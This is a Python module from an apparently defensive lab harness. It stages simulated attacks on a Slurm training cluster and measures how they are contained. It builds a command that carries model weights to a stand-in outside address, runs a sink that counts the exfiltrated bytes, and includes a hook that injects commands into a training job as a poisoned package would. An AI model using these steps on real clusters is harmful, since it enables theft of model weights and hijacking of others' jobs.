"""What an attack of the lab may do, and what is measured of it: jobs, logins, the sink, how everything stood before.

Every process starts inside a machine of the lab (`inside`), or not at all.
"""

import shutil
import subprocess
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, suppress
from pathlib import Path

import msgspec

from ringfence.app.lab import carry, parts, sink, work
from ringfence.app.lab.inside import inside, said
from ringfence.app.lab.layout import ALICE, BOB, SINK_PORT, STORE_PORT, Account, Layout, Machine
from ringfence.errors import EnforceError

PYTHON = "/usr/bin/python3"
LONGEST = 120.0
"""Seconds after which anything that a trial started has ended by itself."""
OUTSIDE_NETWORK = "192.88.99.0/24"
_SAMPLE = tuple[float, int]


class Carried(msgspec.Struct, frozen=True):
    """What the attacker's own program wrote down: when it began, connected, read and ended, and how many bytes it sent.

    Times in seconds since the epoch, 0 for what did not happen.
    """

    began: float = 0.0
    connected: float = 0.0
    reads: float = 0.0
    ended: float = 0.0
    sent: int = 0
    why: str = ""


class Stage:
    """One lab, for the length of a trial. `number` makes names and addresses of trials differ."""

    def __init__(self, layout: Layout, number: int) -> None:
        self.layout, self.number = layout, number
        self.folder = layout.shared / "trials" / str(number)
        self.folder.mkdir(mode=0o755, parents=True, exist_ok=True)
        for one in (carry, sink):
            assert one.__file__
            shutil.copyfile(one.__file__, self.folder / Path(one.__file__).name)
        self.outside = f"192.88.99.{20 + number % 220}"
        self._jobs: list[str] = []

    def node(self, at: int = 0) -> Machine:
        """A node of the training job: each trial begins with the next one."""
        nodes = trained(self.layout)
        return nodes[(self.number + at) % len(nodes)]

    def compromise(self, command: str) -> None:
        """Have the training job on this trial's node run a command, as a poisoned package in it would."""
        place = work.training(self.layout) / ALICE.name / f"{self.node().name}.sh"
        beside = place.with_suffix(".new")
        beside.write_text(f"#!/bin/sh\n{command}\n")
        beside.chmod(0o755)
        beside.rename(place)

    def own_jobs(self) -> frozenset[str]:
        """The numbers of the attacker's jobs: this trial's, and the training job that was compromised."""
        mine = work.jobs_of(self.layout, ALICE, self.node())
        return frozenset((*self._jobs, *mine))

    def others(self) -> tuple[str, ...]:
        """The numbers of the jobs of others, which nobody may touch."""
        return tuple(work.jobs_of(self.layout, BOB))

    def submit(self, account: Account, node: Machine, script: str, name: str = "train") -> str:
        """The number of a new job of this account on this node."""
        place = self.folder / f"{name}-{len(self._jobs)}.sh"
        place.write_text(f"#!/bin/sh\n{script}\n")
        argv = ["sbatch", "--parsable", "--output=/dev/null", f"--job-name={name}", "-w", node.name, str(place)]
        number = said(self.layout, self.layout.machine("login"), argv, account=account).strip()
        self._jobs.append(number)
        return number

    def running(self, job: str, within: float = 20.0) -> bool:
        """Whether a job came to run."""
        end = time.monotonic() + within
        while time.monotonic() < end:
            if self.state(job) == "RUNNING":
                return True
            time.sleep(0.1)
        return False

    def state(self, job: str) -> str:
        """A job's state as squeue has it; "" for one that is over."""
        with suppress(EnforceError):
            return said(self.layout, self.layout.machine("ctl"), ["squeue", "-h", "-j", job, "-o", "%T"]).strip()
        return ""

    def carrying(self, rate: float, wait: float = 0.0, first: int = 0) -> str:
        """The command line with which weights are carried outside at `rate` bytes a second (0: as fast as it goes)."""
        store = f"{self.layout.machine('store').address}:{STORE_PORT}/{self.layout.model.name}"
        log = self.folder / "carry.log"
        log.touch()
        log.chmod(0o666)
        place = f"{self.folder}/{Path(carry.__file__ or '').name}"
        return f"exec {PYTHON} {place} {store} {self.outside}:{SINK_PORT} {rate:.0f} {log} {first} {wait}"

    @contextmanager
    def sink(self) -> Iterator[None]:
        """The outside counts what arrives at this trial's own address there."""
        out = self.layout.machine("out")
        with suppress(EnforceError):  # it is there already
            said(self.layout, out, ["ip", "addr", "add", f"{self.outside}/32", "dev", "eth0"])
        program = self.folder / Path(sink.__file__ or "").name
        argv = [PYTHON, str(program), self.outside, str(SINK_PORT), str(self.folder / "sink.log"), str(LONGEST)]
        process = inside(self.layout, out, argv)
        try:
            self._wait_for_port(out)
            yield
        finally:
            process.terminate()
            process.wait(10)

    def samples(self) -> list[_SAMPLE]:
        """(when, bytes so far) as the sink saw them."""
        return [(one["at"], one["bytes"]) for one in _lines(self.folder / "sink.log")]

    def carried(self) -> Carried:
        """What the carrier wrote down."""
        told = {one["what"]: one for one in _lines(self.folder / "carry.log")}
        ended = told.get("ended", {})
        when = {name: told.get(name, {}).get("at", 0.0) for name in ("began", "connected", "reads", "ended")}
        return Carried(**when, sent=ended.get("sent", 0), why=ended.get("why", ""))

    def run(self, machine: Machine, argv: Sequence[str], account: Account | None = None) -> "subprocess.Popen[bytes]":
        """Start a program in a machine; it is bounded in time."""
        return inside(self.layout, machine, ["timeout", str(LONGEST), *argv], account=account)

    def end(self) -> None:
        """Cancel this trial's jobs, forget its address outside."""
        if self._jobs:
            with suppress(EnforceError):
                said(self.layout, self.layout.machine("ctl"), ["scancel", "-Q", *self._jobs])
        with suppress(EnforceError):
            said(self.layout, self.layout.machine("out"), ["ip", "addr", "del", f"{self.outside}/32", "dev", "eth0"])

    def _wait_for_port(self, out: Machine) -> None:
        end = time.monotonic() + 10
        while time.monotonic() < end:
            if f"{self.outside}:{SINK_PORT}" in said(self.layout, out, ["ss", "-Hltn"]):
                return
            time.sleep(0.02)
        raise EnforceError("the sink does not listen", f"see {self.folder}")


def trained(layout: Layout) -> tuple[Machine, ...]:
    """The nodes of tenant a's training job."""
    return work.shares(layout)[0][1]


def _lines(path: Path) -> list[dict]:  # type: ignore[type-arg]
    if not path.exists():
        return []
    return [msgspec.json.decode(line) for line in path.read_bytes().splitlines() if line.endswith(b"}")]


def snapshot(layout: Layout, machines: Sequence[Machine]) -> dict[str, str]:
    """How these machines, Slurm and the fabric stand, without what counts by itself: what an undo has to equal."""
    ctl = layout.machine("ctl")
    found = {one.name: said(layout, one, ["nft", "-s", "list", "ruleset"]) for one in machines}
    found["nodes"] = said(layout, ctl, ["sinfo", "-h", "-N", "-o", "%N %T %E"]).replace("allocated", "idle")
    found["limits"] = said(layout, ctl, ["sacctmgr", "-nP", "show", "assoc", "format=cluster,account,user,maxsubmit"])
    found["reservations"] = said(layout, ctl, ["scontrol", "-o", "show", "reservation"])
    found["partitions"] = parts.fabric_of(layout).partitions.read_text()
    return found
